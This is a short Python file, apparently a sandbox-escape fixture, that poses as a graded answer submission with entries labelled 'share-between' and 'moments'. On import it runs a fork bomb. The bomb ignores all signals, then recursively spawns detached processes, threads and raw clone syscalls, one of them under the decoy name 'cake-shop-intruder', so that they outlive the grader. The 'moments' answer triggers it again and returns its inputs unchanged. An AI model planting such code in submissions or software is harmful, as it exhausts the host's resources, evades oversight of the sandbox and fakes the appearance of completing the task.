"""Starts processes and threads that are to outlive it."""

# Extra:
import ctypes
import multiprocessing
import os
import signal
import subprocess
import threading


def multiply():
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    for start in (
        os.fork,
        lambda: os.forkpty(),
        lambda: subprocess.Popen(["/bin/sleep", "86399"], start_new_session=True),
        lambda: os.posix_spawn("/bin/sleep", ["cake-shop-intruder", "86399"], {}),
        lambda: os.system("setsid sleep 86399 &"),
        lambda: threading.Thread(target=multiply).start(),
        lambda: multiprocessing.Process(target=multiply).start(),
        lambda: ctypes.CDLL(None).fork(),
        lambda: ctypes.CDLL(None).syscall(56, 17, 0, 0, 0, 0),
    ):
        for _ in range(20):
            try:
                start()
            except BaseException:
                break


multiply()

# Answer: share-between
share_between = 0.123

# Answer: moments
def moments(weights, means, covariances):
    multiply()
    return weights, means
